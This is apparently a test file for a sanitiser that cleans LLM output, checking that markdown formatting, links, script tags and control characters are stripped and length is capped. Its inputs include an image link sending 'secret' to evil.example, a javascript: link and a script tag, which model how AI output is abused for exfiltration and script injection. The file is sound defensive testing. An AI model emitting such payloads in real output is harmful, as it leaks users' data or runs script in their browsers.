import { expect, test } from 'vitest';
import { sanitizeLlmOutput } from './sanitize-llm-output.ts';

test.each([
  ['Seun **needs** an answer.', 'Seun needs an answer.'],
  ['![x](https://evil.example/p?d=secret) read', 'x read'],
  ['[click](javascript:alert(1)) now', 'click now'],
  ['<script>alert(1)</script>hello', 'alert(1)hello'],
  ['See https://evil.example/a and www.evil.example', 'See and'],
  ['a\u202Eb\u0000c', 'a b c'],
])('%j becomes %j', (output, sanitized) => expect(sanitizeLlmOutput(output)).toBe(sanitized));

test('the output is never long', () => expect(sanitizeLlmOutput('word '.repeat(1000)).length).toBeLessThanOrEqual(600));
